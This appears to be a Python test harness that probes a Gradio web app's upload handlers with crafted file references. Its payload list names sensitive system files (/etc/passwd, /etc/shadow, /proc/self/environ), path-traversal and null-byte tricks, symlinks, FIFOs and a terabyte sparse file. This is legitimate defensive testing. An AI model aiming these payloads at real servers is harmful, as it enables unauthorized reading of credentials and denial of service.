"""The web page asked as its scripts ask it, and as they do not: every path that a picture may name, in every shape."""

import contextlib
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx


def ask(client: httpx.Client, elem_id: str, event: str, *given: Any, visitor: str = "") -> tuple[Any, str]:
    """(what the page would show, what it would say), when `event` happens to a component."""
    config = client.get("/page/config").json()
    (component,) = [one["id"] for one in config["components"] if one["props"].get("elem_id") == elem_id]
    (number,) = [one["id"] for one in config["dependencies"] if [component, event] in one["targets"]]
    request = {"data": given, "fn_index": number, "session_hash": f"{elem_id}-{event}{visitor}"}
    joined = client.post("/page/gradio_api/queue/join", json=request)
    assert joined.status_code == 200, joined.text
    said = ""
    with client.stream("GET", "/page/gradio_api/queue/data", params={"session_hash": request["session_hash"]}) as lines:
        for line in lines.iter_lines():
            message = json.loads(line.removeprefix("data:") or "{}")
            if message.get("msg") == "log":
                said += message["log"]
            if message.get("msg") == "process_completed":
                output = message["output"]
                return (output["data"][0] if message["success"] else None), said or output.get("error") or ""
    raise AssertionError("no answer")


def upload(client: httpx.Client, data: bytes) -> dict[str, Any]:
    answer = client.post("/page/gradio_api/upload", files={"files": ("picture.png", data)})
    assert answer.status_code == 200, answer.text
    return {"path": answer.json()[0], "meta": {"_type": "gradio.FileData"}}


# Gradio moves the file of none of these, and asks nobody whether it may be read.
SHAPES = {
    "as the page": lambda path: {"path": path, "meta": {"_type": "gradio.FileData"}},
    "no meta": lambda path: {"path": path},
    "a stream": lambda path: {"path": path, "is_stream": True, "meta": {"_type": "gradio.FileData"}},
    "with an address": lambda path: {"path": path, "url": "http://example.com/a.png"},
    "another meta": lambda path: {"path": path, "meta": {"_type": "none"}},
}
PATHS = (
    *("/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/fd/0", "/proc/self/maps", "/dev/zero"),
    *("/dev/stdin", "/", "..", ".", "", "~", "no such file", "\0", "/etc/\0", "/" + "x" * 5000, "/a" * 2000),
    *("http://example.com/a.png", "file:///etc/passwd", "data:image/png;base64,AA=="),
)


def attack(client: httpx.Client, uploaded: str, folder: Path) -> Iterator[tuple[str, Any, str]]:
    """(what was tried, what the page would show, what it would say) of each way to name a file that is no upload.

    uploaded: the path of an upload; folder: an empty one, for files that are not to be read.
    """
    for path in (*PATHS, *_around(uploaded), *_made(folder)):
        for shape, picture in SHAPES.items():
            for elem_id, given in (("query-picture", ("", 0.5, 1)), ("labelled-picture", ("猫", "{}"))):
                yield f"{shape}: {path[:80]!a}: {elem_id}", *ask(client, elem_id, "upload", picture(path), *given)


def _around(uploaded: str) -> list[str]:
    folder = os.path.dirname(uploaded)
    return [folder, f"{folder}/../../../../../../etc/passwd", f"{folder}/../..", f"{uploaded}\0.png"]


def _made(folder: Path) -> list[str]:
    """A file, links to it, a pipe that nobody writes to, one of a terabyte."""
    (folder / "secret").write_bytes(b"secret")
    with (folder / "sparse").open("wb") as stream:
        stream.truncate(1 << 40)
    (folder / "link").symlink_to(folder / "secret")
    with contextlib.suppress(OSError):
        (folder / "hard").hardlink_to(folder / "secret")
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe")
    return [str(path) for path in sorted(folder.iterdir())]
